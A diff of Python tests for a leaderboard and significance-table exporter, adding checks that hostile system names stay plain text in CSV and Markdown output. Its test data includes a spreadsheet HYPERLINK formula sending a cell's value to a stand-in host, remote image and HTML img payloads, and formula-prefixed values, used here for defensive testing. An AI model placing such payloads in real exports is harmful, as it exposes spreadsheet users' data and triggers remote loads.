@@ -92,7 +92,7 @@ def test_leaderboard_as_csv_markdown_and_booktabs_latex():
     assert csv_text.splitlines()[1].startswith("A_1,IT,ALL,4,75.00,")
     markdown = leaderboard_markdown(rows)
     assert markdown.splitlines()[1].startswith("|---|---|---|---:|")
-    assert "| A_1 | IT | ALL | 4 | 75.00 |" in markdown and "| B | IT | ALL | 1 | – |" in markdown
+    assert "| A\\_1 | IT | ALL | 4 | 75.00 |" in markdown and "| B | IT | ALL | 1 | – |" in markdown
     latex = leaderboard_latex(rows)
     assert latex.startswith("\\begin{tabular}{lll" + "r" * 14 + "}\n\\toprule\n")
     assert "A\\_1 & IT & ALL & 4 & 75.00" in latex and "\\bottomrule\n\\end{tabular}" in latex
@@ -151,3 +151,58 @@ def test_significance_rows_compare_each_pair_on_the_items_both_translated():
     assert keyed[("a", "c", "ALL")]["ΔAcc"] == "0.00" and keyed[("a", "c", "ALL")]["p"] == "1.0000"
     assert "| a | b | DE | 3 |" in significance_markdown(rows)
     assert significance_csv(rows).splitlines()[0] == "system A,system B,lang,n,Acc A,Acc B,ΔAcc,p"
+
+
+#: System names a user may hand in: a spreadsheet formula, a remote image and HTML for a Markdown viewer, a newline.
+HOSTILE_SYSTEMS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "![x](http://evil.example/x.png)",
+                   '<img src="http://evil.example/h.png">', "two\nlines | cell", "@SUM(1)", "-2+3", "ok")  # fmt: skip
+
+
+def _hostile_rows() -> list[dict[str, str]]:
+    items = [_item(system, "IT", outcome) for system in HOSTILE_SYSTEMS for outcome in ("GOOD", "BAD")]
+    return leaderboard_rows(items, resamples=20, seed=1, by_pos=False)
+
+
+def _assert_csv_keeps_names_as_text(text: str, name_columns: tuple[str, ...], expected_rows: int) -> None:
+    import csv
+    import io
+
+    records = list(csv.DictReader(io.StringIO(text)))
+    assert len(records) == expected_rows  # a newline inside a name does not split a row
+    for record in records:
+        for column in name_columns:
+            value = record[column]
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value  # no live formula
+    names = {record[name_columns[0]] for record in records}
+    assert "'" + HOSTILE_SYSTEMS[0] in names and "'@SUM(1)" in names and "'-2+3" in names and "ok" in names
+
+
+def _assert_markdown_keeps_names_literal(markdown: str, expected_rows: int) -> None:
+    lines = markdown.splitlines()
+    assert len(lines) == 2 + expected_rows  # header, rule, one line per row
+    assert all(line.startswith("| ") and line.endswith(" |") for line in lines[2:])
+    import re
+
+    assert not re.search(r"(?<!\\)[<>\[\]]", markdown)  # no tag, image or link a viewer would act on
+    assert "!\\[x\\](http://evil.example/x.png)" in markdown  # shown, not loaded
+    assert "two lines \\| cell" in markdown
+
+
+def test_leaderboard_files_keep_hostile_system_names_as_text():
+    rows = _hostile_rows()
+    _assert_csv_keeps_names_as_text(leaderboard_csv(rows), ("system", "lang", "pos"), len(rows))
+    _assert_markdown_keeps_names_literal(leaderboard_markdown(rows), len(rows))
+    # numbers keep their sign: only name columns are neutralised
+    assert all(not cell.startswith("'") for row in rows for key, cell in row.items() if key not in ("system",))
+
+
+def test_significance_files_keep_hostile_system_names_as_text():
+    outcomes = [(system, str(i), "IT", "GOOD" if i <= k % 3 else "BAD") for k, system in enumerate(HOSTILE_SYSTEMS)
+                for i in range(4)]  # fmt: skip
+    rows = significance_rows(outcomes, resamples=20, seed=1)
+    assert len(rows) == len(HOSTILE_SYSTEMS) * (len(HOSTILE_SYSTEMS) - 1) // 2
+    assert any(row["ΔAcc"].startswith("-") for row in rows)
+    text = significance_csv(rows)
+    _assert_csv_keeps_names_as_text(text, ("system A", "system B", "lang"), len(rows))
+    assert any(",-" in line for line in text.splitlines())  # a negative ΔAcc stays a number
+    _assert_markdown_keeps_names_literal(significance_markdown(rows), len(rows))
